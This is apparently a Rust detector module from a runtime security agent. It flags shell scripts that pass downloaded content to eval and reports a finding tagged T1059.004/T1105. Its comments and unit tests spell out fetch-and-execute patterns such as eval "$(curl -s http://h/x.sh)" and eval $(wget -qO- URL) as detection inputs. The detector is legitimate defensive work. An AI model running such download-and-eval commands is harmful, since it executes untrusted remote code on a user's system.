//! A download a shell script hands to `eval`: `eval "$(curl -s URL)"`, `eval $(wget -qO- URL)`,
//! ``eval `curl URL` ``. The script's shell reads the command substitution's pipe itself and
//! runs the text with no exec and no open, so the pipe checks (`pipes.rs`) see a downloader
//! writing into a pipe nothing exec'd reads, and then whatever the download runs. What tells
//! the eval from a script that only parses what it fetched is the script's own text: the edge
//! reads it at the shell's exec (the first 64 KiB of a shell's script operand) and keeps the
//! commands of the substitutions it evaluates ([`evaluated_substitutions`]). A downloader the
//! shell then runs with its output on a pipe, named by one of them, is the download evaluated.

use vigil_crds::finding::RuntimeContext;
use vigil_detection::FindingType;

use super::{
    Candidate, Detector, ProcessLookup,
    bounded::FifoMap,
    path_basename,
    redact::redacted_command_line,
    technique::{Raises, draft, listed, program_identity, program_name, technique},
};
use crate::event::ExecInfo;

/// Substitutions kept per script.
pub const MAX_EVALUATED: usize = 4;
/// Bytes kept of each substitution's command.
pub const MAX_EVALUATED_BYTES: usize = 256;
/// Shells remembered running a script that evaluates a substitution.
pub(crate) const MAX_SHELLS: usize = 1024;

/// The commands of the command substitutions a shell script hands to `eval` (`eval
/// "$(curl -s URL)"`, `eval $(wget -qO- URL)`, ``eval `curl URL` ``), in order, at most
/// [`MAX_EVALUATED`], each trimmed and cut at [`MAX_EVALUATED_BYTES`]. Comment lines are
/// skipped; a substitution nested in another is not followed.
pub fn evaluated_substitutions(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in text.lines() {
        if line.trim_start().starts_with('#') {
            continue;
        }
        let mut rest = line;
        while let Some(at) = rest.find("eval") {
            let before_ok = rest[..at]
                .chars()
                .next_back()
                .is_none_or(|c| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | '{'));
            let after = &rest[at + 4..];
            rest = after;
            if !before_ok || !after.starts_with(|c: char| c.is_whitespace()) {
                continue;
            }
            let arg = after.trim_start().trim_start_matches(['"', '\'']);
            let inner = if let Some(body) = arg.strip_prefix("$(") {
                body.find(')').map(|end| &body[..end])
            } else if let Some(body) = arg.strip_prefix('`') {
                body.find('`').map(|end| &body[..end])
            } else {
                None
            };
            if let Some(cmd) = inner.map(str::trim).filter(|c| !c.is_empty()) {
                let mut cut = cmd.len().min(MAX_EVALUATED_BYTES);
                while !cmd.is_char_boundary(cut) {
                    cut -= 1;
                }
                out.push(cmd[..cut].to_owned());
                if out.len() >= MAX_EVALUATED {
                    return out;
                }
            }
        }
    }
    out
}

/// A shell running a script that evaluates command substitutions.
#[derive(Debug)]
struct Evaluating {
    uuid: String,
    /// The script's path, as exec'd.
    script: String,
    commands: Vec<String>,
}

/// Shells whose script evaluates command substitutions, by pid, first in first out; the entry
/// goes when the process execs something else or exits.
#[derive(Debug)]
pub(crate) struct EvalShells {
    shells: FifoMap<u32, Evaluating>,
}

impl Default for EvalShells {
    fn default() -> Self {
        Self {
            shells: FifoMap::new(MAX_SHELLS),
        }
    }
}

impl EvalShells {
    /// The exec replaced the process's image: remember it when it is a shell whose script
    /// evaluates substitutions, forget it otherwise.
    pub(crate) fn on_exec(&mut self, d: &Detector, e: &ExecInfo) {
        let b = d.rules.behaviour();
        if e.script_evals.is_empty() || !listed(&b.shells, program_identity(d, e)) {
            self.shells.remove(&e.process.pid);
            return;
        }
        let script = super::script_operand(&d.rules, &e.argv)
            .unwrap_or(&e.filename)
            .to_owned();
        self.shells.insert(
            e.process.pid,
            Evaluating {
                uuid: e.process.uuid.clone(),
                script,
                commands: e.script_evals.clone(),
            },
        );
    }

    /// The process exited.
    pub(crate) fn forget(&mut self, pid: u32) {
        self.shells.remove(&pid);
    }

    /// Entries held and evicted.
    pub(crate) fn tracked(&self) -> (usize, u64) {
        (self.shells.len(), self.shells.evicted())
    }
}

/// A downloader a shell runs with its output on a pipe (the shell's command substitution),
/// where the shell's script evaluates a substitution whose command is that downloader.
pub(crate) fn check_exec(
    d: &Detector,
    table: &EvalShells,
    e: &ExecInfo,
    lookup: &dyn ProcessLookup,
) -> Option<Candidate> {
    e.stdout_pipe?;
    let b = d.rules.behaviour();
    let name = program_identity(d, e);
    if !listed(&b.downloaders, name) {
        return None;
    }
    // The script's shell, or a subshell of it (a fork running the same shell, not exec'd:
    // `eval "$(curl URL | base64 -d)"` runs the pipeline's programs from one).
    let tracked = |a: &crate::event::Ancestor| {
        table
            .shells
            .get(&a.pid)
            .filter(|s| s.uuid.is_empty() || a.uuid.is_empty() || s.uuid == a.uuid)
    };
    let first = e.lineage.first()?;
    let (parent, shell) = match tracked(first) {
        Some(shell) => (first, shell),
        None => {
            let second = e.lineage.get(1)?;
            let shell = tracked(second)?;
            if first.exe.is_none() || first.exe != second.exe {
                return None;
            }
            (second, shell)
        }
    };
    let evaluated = shell.commands.iter().find(|c| {
        c.split_whitespace()
            .next()
            .is_some_and(|w| program_name(path_basename(std::path::Path::new(w))) == name)
    })?;
    let writer = e.exe.display().to_string();
    let command_line = redacted_command_line(&e.argv);
    let shell_exe = parent
        .exe
        .as_ref()
        .map(|p| p.display().to_string())
        .unwrap_or_else(|| parent.comm.clone());
    let mut context = RuntimeContext {
        command_line_example: Some(command_line.clone()),
        ..RuntimeContext::default()
    };
    let a = &mut context.additional;
    a.insert("pipeWriter".into(), writer.clone());
    a.insert("pipeWriterPid".into(), e.process.pid.to_string());
    a.insert("pipeWriterCommandLine".into(), command_line.clone());
    a.insert(
        "programReadFrom".into(),
        "a command substitution its script evaluates".into(),
    );
    a.insert("evaluatedBy".into(), shell_exe.clone());
    a.insert("evaluatedByPid".into(), parent.pid.to_string());
    a.insert("script".into(), shell.script.clone());
    a.insert(
        "evaluatedCommand".into(),
        redacted_command_line(
            &evaluated
                .split_whitespace()
                .map(str::to_owned)
                .collect::<Vec<_>>(),
        ),
    );
    Some(technique(
        d,
        &e.process,
        lookup,
        Raises {
            finding_type: FindingType::ExecutionSuspiciousCommand,
            rule: "behaviour-download-pipe-exec",
            mitre: "T1059.004,T1105",
            severity: Some(8.0),
        },
        draft(
            "A shell ran code downloaded into it through a pipe",
            format!(
                "Process {} (pid {}, {shell_exe}) runs a script ({}) that evaluates what {writer} \
                 (pid {}) downloads: `eval \"$({})\"`.",
                parent.comm, parent.pid, shell.script, e.process.pid, command_line
            ),
            format!("behaviour-download-pipe-exec\0{command_line}"),
            context,
        ),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_substitutions_a_script_hands_to_eval() {
        for (text, want) in [
            (
                "eval \"$(curl -s http://h/x.sh)\"\n",
                vec!["curl -s http://h/x.sh"],
            ),
            ("eval $(wget -qO- http://h/x)", vec!["wget -qO- http://h/x"]),
            ("eval `curl -fsSL h/x`", vec!["curl -fsSL h/x"]),
            ("set -e; eval \"$( curl h )\"", vec!["curl h"]),
            (
                "#!/bin/sh\n# eval \"$(curl old)\"\nif true; then eval \"$(ssh-agent -s)\"; fi\n",
                vec!["ssh-agent -s"],
            ),
            // Not an eval of a substitution, or not the word eval.
            (
                "eval \"$cmd\"\nretrieval $(curl x)\nevaluate $(curl y)\n",
                vec![],
            ),
        ] {
            assert_eq!(evaluated_substitutions(text), want, "{text}");
        }
        let many = "eval $(a)\n".repeat(10);
        assert_eq!(evaluated_substitutions(&many).len(), MAX_EVALUATED);
        let long = format!("eval $(curl {})", "é".repeat(400));
        let got = evaluated_substitutions(&long);
        assert!(got[0].len() <= MAX_EVALUATED_BYTES, "{}", got[0].len());
    }
}
